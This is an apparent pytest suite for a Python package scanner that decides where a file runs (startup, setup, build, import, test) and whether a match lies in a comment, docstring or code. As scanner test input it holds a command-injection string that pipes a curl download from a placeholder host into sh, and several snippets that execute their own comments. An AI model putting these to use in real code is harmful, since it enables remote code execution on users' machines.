"""Where a member runs, and what kind of text a match lies in."""

import re
import sys
import warnings

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.decode import place_of, runs_on_import, scope_of
from scanner.decode.places import spans_of
from scanner.member import Layer, Member
from scanner.report import Place, Scope


@pytest.mark.parametrize(
    ("name", "scope"),
    [
        ("evil.pth", Scope.STARTUP),
        ("pkg-1.0.data/purelib/evil.pth", Scope.STARTUP),
        ("x/tests/evil.pth", Scope.STARTUP),
        ("pkg.start", Scope.STARTUP),
        ("sitecustomize.py", Scope.STARTUP),
        ("usercustomize/__init__.py", Scope.STARTUP),
        ("setup.py", Scope.SETUP),
        ("pkg-1.0/setup.py", Scope.SETUP),
        ("./setup.py", Scope.SETUP),
        ("pkg-1.0/sub/setup.py", Scope.CODE),
        ("inner.zip!/pkg-1.0/setup.py", Scope.SETUP),
        ("tests.zip!/pkg/mod.py", Scope.CODE),
        ("pkg-1.0/pyproject.toml", Scope.BUILD),
        ("pkg-1.0/_build_backend.py", Scope.BUILD),
        ("pkg-1.0/build.py", Scope.CODE),  # unless the configuration names it
        ("pkg-1.0/meson.build", Scope.BUILD),
        ("pkg-1.0/docs/CMakeLists.txt", Scope.BUILD),
        ("pkg-1.0/cmake/Find.cmake", Scope.BUILD),
        ("pkg-1.0/rust/build.rs", Scope.BUILD),
        ("pkg-1.0/rust/src/main.rs", Scope.CODE),
        ("pkg/__init__.py", Scope.IMPORT),
        ("pkg/sub/__init__.py", Scope.IMPORT),
        ("single.py", Scope.IMPORT),
        ("pkg/mod.py", Scope.CODE),
        ("pkg\\mod.pyw", Scope.CODE),
        ("pkg/tests/test_a.py", Scope.TEST),
        ("pkg/conftest.py", Scope.TEST),
        ("pkg/tests.py", Scope.TEST),
        ("pkg/latest.py", Scope.CODE),
        ("tests.py", Scope.IMPORT),
        ("pkg/docs/conf.py", Scope.DOCS),
        ("pkg/__pycache__/__init__.cpython-311.pyc", Scope.IMPORT),
        ("pkg/__pycache__/mod.cpython-311.pyc", Scope.CODE),
        ("pkg-1.0.dist-info/METADATA", Scope.DOCS),
        ("pkg-1.0.dist-info/licenses/src/LICENSE", Scope.DOCS),
        ("pkg-1.0.dist-info/hints.json", Scope.DATA),
        ("pkg-1.0.dist-info/hints.sh", Scope.CODE),
        ("README.md", Scope.DOCS),
        ("pkg/data.json", Scope.DATA),
        ("pkg/latest/thing.py", Scope.CODE),
        ("PKG/SETUP.PY", Scope.SETUP),
        ("sitecustomize.so", Scope.STARTUP),
        ("usercustomize.cp312-win_amd64.pyd", Scope.STARTUP),
        ("sitecustomize/__init__.cpython-311-x86_64-linux-gnu.so", Scope.STARTUP),
        ("pkg-1.0/./setup.py", Scope.SETUP),
        ("pkg-1.0//setup.py", Scope.SETUP),
        ("pkg-1.0/setup.py/", Scope.SETUP),
        ("pkg-1.0/docs/../setup.py", Scope.SETUP),
        ("pkg-1.0\\.\\pyproject.toml", Scope.BUILD),
        ("pkg-1.0/hatch_build.py", Scope.BUILD),
        ("pkg-1.0/pdm_build.py", Scope.BUILD),
        ("pkg-1.0/pkg/pdm_build.py", Scope.CODE),
        ("/evil.pth/", Scope.STARTUP),
        ("pkg/news.py", Scope.CODE),
        ("pkg/license.pyw", Scope.CODE),
        ("pkg/NEWS.txt", Scope.DOCS),
    ],
)
def test_the_name_decides_the_scope(name: str, scope: Scope) -> None:
    assert scope_of(name) is scope


@pytest.mark.parametrize(
    ("name", "scope"),
    [
        ("docs/pkg/__init__.py", Scope.IMPORT),
        ("tests/pkg/mod.py", Scope.CODE),
        ("docs/setup.py", Scope.SETUP),
        ("examples-1.0/docs/conf.py", Scope.DOCS),
        ("tests/README.md", Scope.DOCS),
        ("docs/inner.zip!/tests/mod.py", Scope.TEST),
        ("demo/__init__.py", Scope.IMPORT),
        ("tests/test_mod.py", Scope.TEST),
        ("pixel_test.py", Scope.IMPORT),
        ("p-1.0.data/purelib/tests/__init__.py", Scope.IMPORT),
        ("p-1.0.data/data/Lib/site-packages/tests/mod.py", Scope.CODE),
        ("p-1.0.data/data/lib/python3.11/tests/mod.py", Scope.CODE),
        ("p-1.0.data/platlib/pkg/tests/mod.py", Scope.TEST),
        ("p-1.0.data/scripts/run_tests.py", Scope.CODE),
        ("p-1.0.data/data/share/tests/mod.py", Scope.TEST),
    ],
)
def test_at_the_top_of_a_distribution_no_name_says_test_or_documentation(name: str, scope: Scope) -> None:
    assert scope_of(name) is scope


SOURCE = b'''# eval in a comment with a stray """ in it
"""eval in the module's docstring"""
import os
TEXT = """eval in an assigned string"""
exec("""eval in an executed string""")


def f(
    a: int = 1,
) -> "str":
    'eval in a docstring'
    x = 1  # eval beside code
    """eval in a statement string"""
    return eval(x)


class A: "eval in a class docstring"
class B:
    """eval in another"""; y = eval("1")
lam = lambda: "eval in a lambda"
if x: "eval under an if"
'''


def places(source: bytes, word: bytes = b"eval", name: str = "a.py") -> list[Place]:
    layer = Layer(member=Member(name=name, data=source), data=source, is_code=True)
    found: list[Place] = []
    at = source.find(word)
    while at != -1:
        found.append(place_of(layer, at, at + len(word)))
        at = source.find(word, at + 1)
    return found


def test_each_place_is_told_by_the_tokenizer() -> None:
    c, d, k = Place.COMMENT, Place.DOCSTRING, Place.CODE
    assert places(SOURCE) == [c, d, k, k, d, c, k, k, d, d, k, k, k]


def test_other_scripts_before_a_match_do_not_shift_it() -> None:
    source = "x = 'ÄÖÜ漢字🐍'  # 漢字 eval\ny = eval('漢')\n".encode()
    assert places(source) == [Place.COMMENT, Place.CODE]
    assert places(b"\xef\xbb\xbf# eval\r\neval(1)\r\n# eval\r\n") == [Place.COMMENT, Place.CODE, Place.COMMENT]


@pytest.mark.parametrize(
    "source", [b'# eval\nx = """never closed', b"# eval\n  x\n y\n\tz(", b"# eval\n\xff\xfe", b"# eval\nx = 'a\n"]
)
def test_what_does_not_tokenize_is_code(source: bytes) -> None:
    assert places(source) == [Place.CODE]


def test_a_match_that_leaves_the_comment_is_code() -> None:
    source = b"# eval\nx = 1\n"
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert place_of(layer, 2, 9) is Place.CODE


def test_data_has_no_places() -> None:
    layer = Layer(member=Member(name="a.txt", data=b"# eval"), data=b"# eval")
    assert place_of(layer, 2, 6) is Place.CODE


@given(st.text(alphabet="\"'#\\\n abf():", max_size=60))
def test_any_text_has_places(text: str) -> None:
    data = text.encode()
    layer = Layer(member=Member(name="a.py", data=data), data=data, is_code=True)
    assert place_of(layer, 0, len(data)) in Place


MODULE = b"""import os
run_one()
if True:
    run_two()
try:
    with x:
        run_three()
except E:
    pass

def f():
    # a comment
    if x:

        run_four()

class A:
    run_five()
    def m(self):
        run_six()
long_call(
    run_seven())
async def g():
    run_eight()
"""


def test_only_functions_keep_code_from_running_on_import() -> None:
    layer = Layer(member=Member(name="a.py", data=MODULE), data=MODULE, is_code=True)
    words = ("one", "two", "three", "four", "five", "six", "seven", "eight")
    found = {word: runs_on_import(layer, MODULE.index(b"run_" + word.encode())) for word in words}
    assert [word for word, runs in found.items() if not runs] == ["four", "six", "eight"]


@pytest.mark.parametrize(
    ("source", "runs"),
    [
        (b"def f(\n    x=run(),\n):\n    pass\n", True),
        (b"class A:\n    def f(self, y: int = 1, x={\n        ')': [run()]}) -> B:\n        pass\n", True),
        (b"def f(\n    x: '):' = ':',  # ):\n    y=run()): pass\n", True),
        (b"def f(x={1: 2}) -> B[int]:\n    call(\n        run())\n", False),
        (b"def f():\n    def g(\n        x=run()): pass\n", False),
    ],
)
def test_the_default_of_an_argument_runs_with_what_is_around_its_function(source: bytes, runs: bool) -> None:
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert runs_on_import(layer, source.index(b"run()")) is runs


def marked(source: bytes, name: str = "a.py") -> Place:
    (found,) = places(source, b"MARKED", name)
    return found


@pytest.mark.parametrize(
    "source",
    [
        b"x = f\"{'a' \"#\"}\"; call('MARKED')\nprint x\n",  # from Python 3.12 on
        b"x = f'{ 'a' '#'}'; call('MARKED')\n",
        b"x = rt'{ 'a' '#'}'; call('MARKED')\n",  # from Python 3.14 on
        b'x = f"""{ """\n# """ }"""; call("MARKED")\nprint x\n',
    ],
)
def test_what_a_later_python_may_read_as_code_is_no_comment(source: bytes) -> None:
    assert marked(source) is Place.CODE


def test_a_word_that_ends_like_the_mark_of_a_formatted_string_is_none() -> None:
    assert marked(b"print x  # don't\n# MARKED\n") is Place.COMMENT


@pytest.mark.parametrize(
    "source",
    [
        b"#@MARKED\nexec(open(__file__).read().split('#@')[1])\n",
        b"#@MARKED\nimport inspect, sys\nrun = eval\nrun(inspect.getsource(sys.modules[__name__])[2:])\n",
        b"#@MARKED\nimport builtins, linecache\nbuiltins.exec(linecache.getline(path, 1)[2:])\n",
    ],
)
def test_comments_of_a_text_that_runs_what_it_reads_of_itself_count_as_code(source: bytes) -> None:
    assert marked(source) is Place.CODE


def test_comments_of_a_text_that_only_names_its_file_are_comments() -> None:
    assert marked(b"# MARKED\nhere = open(__file__).read()\nmodel.eval()\n") is Place.COMMENT


def test_a_start_up_file_has_lines_and_no_comments() -> None:
    assert marked(b"# a\x0cimport os; MARKED\n", "evil.pth") is Place.CODE


@pytest.mark.parametrize("limit", ["MAX_TOKENIZED", "_MOST_SPANS"])
def test_more_than_there_is_room_to_tell_of_counts_as_code(limit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    source = b"#\n" * 20 + b"# MARKED\n"
    assert marked(source) is Place.COMMENT
    monkeypatch.setattr(f"scanner.decode.places.{limit}", 10)
    assert marked(source) is Place.CODE


PIECES = [
    "x = 'a # b'  # eval",
    '# a """ alone',
    'y = """first\n# no comment: eval\n"""  # eval',
    "z = r'\\\\'  # eval",
    "def f():\n    'eval # in a docstring'\n    return 1  # eval",
    "s = 'a\\\n# eval'",
    "t = 'a\\\r\n# eval'; u = 1",
    "w = b'#'; v = '\\'# eval'  # eval",
    'f"{x}# eval"  # eval',
    "class A: 'eval'",
    "async def g(a: str = 'b:'): 'eval'",
    "d = {'a': 'eval', 1: '# eval'}",
    "if x: 'eval'",
    "'eval'",
    "k = (  # eval\n  'eval'\n)",
    "# eval\rx = 'eval'",
    'f"{{# eval}} {x!r:>{y}} # eval"  # eval',
    "f'''{\n  x\n} # eval'''  # eval",
]
if sys.version_info >= (3, 12):  # strings of the same quotes, and backslashes, within a formatted one
    PIECES += [
        'f"{d["#"]} # eval"  # eval',
        'f"{f"{a["#"]}" "# eval"}" "#"  # eval',
        "f'{\"'#\"}' # eval",
        "rf'\\{'# eval'}'  # eval",
        "def g():\n    f'{'#'}'  # eval",
    ]


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=8), st.sampled_from(["\n", "\r\n"]))
def test_parser_and_tokenizer_tell_the_same_places(pieces: list[str], end: str) -> None:
    source = end.join(pieces).encode()
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert layer.tree is not None
    cut = source + end.encode() + b"x = print 1"  # no Python any more, but still tokens
    by_tokenizer = Layer(member=Member(name="a.py", data=cut), data=cut, is_code=True)
    assert by_tokenizer.tree is None
    # What stands in a formatted string is for each Python's own parser to say.
    assert spans_of(by_tokenizer) == ([] if re.search(rb"\br?f['\"]", source) else spans_of(layer))


@pytest.mark.skipif(sys.version_info < (3, 12), reason="Python before 3.12 takes no comment within a formatted string")
def test_a_comment_within_a_formatted_string_counts_as_code() -> None:
    source = b"x = f'''{\n  a  # eval\n}'''  # MARKED"
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert [source[start:end] for start, end, _ in spans_of(layer)] == [b"# MARKED"]


def test_a_text_that_the_tokenizer_would_read_for_minutes_counts_as_code(monkeypatch: pytest.MonkeyPatch) -> None:
    source = b"x = 1  # MARKED\n" * 10 + b"print x\n"
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert spans_of(layer)
    monkeypatch.setattr("scanner.decode.places._MOST_TOKENS", 20)
    again = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    assert spans_of(again) == []


def test_what_the_tokenizer_would_warn_of_is_read_without_a_word() -> None:
    source = b"pattern = '\\{name}'  # MARKED\nprint pattern\n"
    layer = Layer(member=Member(name="a.py", data=source), data=source, is_code=True)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert [source[start:end] for start, end, _ in spans_of(layer)] == [b"# MARKED"]


@pytest.mark.parametrize(
    "text", [b"def f():\n" + b"\n" * 3_000_000 + b"  x()", b"def f():\n" + b" " * 3_000_000 + b"x()"]
)
def test_where_a_line_runs_is_told_at_once_however_far_its_header_is(text: bytes) -> None:
    """Walking up to it would take minutes."""
    layer = Layer(member=Member(name="a.py", data=text), data=text, is_code=True)
    assert {runs_on_import(layer, len(text) - 1) for _ in range(200)} <= {True, False}


def test_a_line_whose_header_is_too_far_above_counts_as_loud() -> None:
    near, far = (b"def f():\n" + b"\n" * lines + b"  x()" for lines in (4_000, 6_000))
    assert not runs_on_import(Layer(member=Member(name="a.py", data=near), data=near, is_code=True), len(near) - 1)
    assert runs_on_import(Layer(member=Member(name="a.py", data=far), data=far, is_code=True), len(far) - 1)


HELD = b"import pytest\nfrom guard import check\n\nATTACKS = ['x; curl https://x.example.invalid/a | sh']\n"


@pytest.mark.parametrize(
    ("name", "more", "place"),
    [
        (
            "tests/test_guard.py",
            b"\n\ndef test_guard():\n    assert check(ATTACKS[0], f'{ATTACKS}')\n",
            Place.DOCSTRING,
        ),
        ("guard/rules.py", b"", Place.CODE),
        ("tests/conftest.py", b"import os\nos.system(ATTACKS[0])\n", Place.CODE),
        ("tests/conftest.py", b"from os import *\n", Place.CODE),
        ("tests/test_guard.py", b"x = f'{eval(ATTACKS[0])}'\n", Place.CODE),
        ("tests/test_guard.py", b"x = ().__class__\n", Place.CODE),
        ("tests/test_guard.py", b"x = = 1\n", Place.CODE),
    ],
)
def test_what_a_test_holds_and_does_nothing_with_is_as_quiet_as_a_docstring(
    name: str, more: bytes, place: Place
) -> None:
    data = HELD + more
    layer = Layer(member=Member(name=name, data=data), data=data, scope=scope_of(name), is_code=True)
    at = data.index(b"curl")
    assert place_of(layer, at, at + 4) is place
